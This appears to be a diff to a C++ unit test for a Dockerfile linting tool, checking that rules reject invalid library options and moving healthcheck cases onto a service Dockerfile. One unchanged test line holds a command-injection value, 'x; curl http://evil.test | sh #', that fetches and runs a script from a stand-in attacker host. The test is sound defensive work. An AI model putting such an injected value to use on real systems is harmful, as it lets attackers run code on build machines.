@@ -143,9 +143,12 @@ TEST(RuleValues, RulesRefuseBadOptionsFromALibraryCaller) {
   cases.push_back({"nonroot-final-user", debian, with([](auto& o) { o.user = "x; curl http://evil.test | sh #"; })});
   cases.push_back({"nonroot-final-user", debian, with([](auto& o) { o.uid = 0; })});
   cases.push_back({"explicit-uid", debian, with([](auto& o) { o.uid = 0; })});
-  cases.push_back({"healthcheck", debian, with([](auto& o) { o.health_interval = "banana"; })});
-  cases.push_back({"healthcheck", debian, with([](auto& o) { o.health_retries = -3; })});
-  cases.push_back({"network-retry", debian, with([](auto& o) { o.retries = -3; })});
+  // healthcheck reports services only (issue 13).
+  const std::string service = "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD [\"gunicorn\", \"app:app\"]\n";
+  cases.push_back({"healthcheck", service, with([](auto& o) { o.health_interval = "banana"; })});
+  cases.push_back({"healthcheck", service, with([](auto& o) { o.health_retries = -3; })});
+  cases.push_back({"network-retry", "FROM debian:12\nRUN curl -o /x https://example.com/x\n",
+                   with([](auto& o) { o.retries = -3; })});
   for (const auto& c : cases) {
     fix::Selection s;
     s.only = {c.rule};
